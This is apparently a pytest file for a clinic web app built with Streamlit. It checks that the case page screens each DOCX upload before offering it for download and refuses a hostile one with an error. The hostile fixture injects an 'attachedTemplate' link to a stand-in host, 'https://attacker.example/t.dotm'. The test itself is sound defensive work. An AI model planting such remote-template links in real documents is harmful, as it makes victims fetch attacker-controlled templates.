"""A DOCX is checked before the case page offers it to save: a hostile one stored before the
upload check is refused in the product's words (not Streamlit's failure notice of a
deferred download), and nothing is recorded; a plain one is then offered to save."""

from __future__ import annotations

from streamlit.testing.v1 import AppTest

from core.bootstrap import Clinic
from core.docx_parts import EXTERNAL
from core.models import Upload
from tests import samples
from tests.app.conftest import open_case, seed_case, sign_in, sign_up, texts
from tests.doubles import case_service


def test_a_docx_is_checked_first_refused_in_words_or_then_offered(
    app: AppTest, clinic: Clinic
) -> None:
    auth = sign_up(clinic, "docx.download@example.com")
    sign_in(app, "docx.download@example.com")
    created = seed_case(
        clinic,
        auth,
        uploads=[
            Upload("plain.docx", samples.docx_bytes(), "lab"),
            Upload("letter.docx", samples.docx_bytes(), "lab"),
        ],
    )
    case_id = created.case.case_id
    plain, letter = created.files
    backend = clinic.provider.for_session(auth)
    # As an older version kept it: never checked at upload.
    hostile = samples.docx_with_parts(
        added=samples.docx_settings_linking("attachedTemplate", "https://attacker.example/t.dotm")
    )
    backend.blobs.put(letter.file_url, hostile, letter.file_type)

    page = open_case(app, case_id)
    saves = {b.key for b in page.get("download_button")}
    assert f"case_download_{plain.file_id}" not in saves  # nothing offered unchecked
    page.button(key=f"case_download_{letter.file_id}_check").click().run()
    assert not page.exception
    assert f"'letter.docx' is not downloaded: {EXTERNAL}" in texts(page, "error")
    assert f"case_download_{letter.file_id}" not in {b.key for b in page.get("download_button")}

    page.button(key=f"case_download_{plain.file_id}_check").click().run()
    assert not page.exception
    offered = {b.key: b.label for b in page.get("download_button")}
    assert offered[f"case_download_{plain.file_id}"] == r"Save plain\.docx"
    events = case_service(auth.doctor, backend).audit_events(case_id)
    assert not [e for e in events if e.action == "file_downloaded"]  # checked, not saved
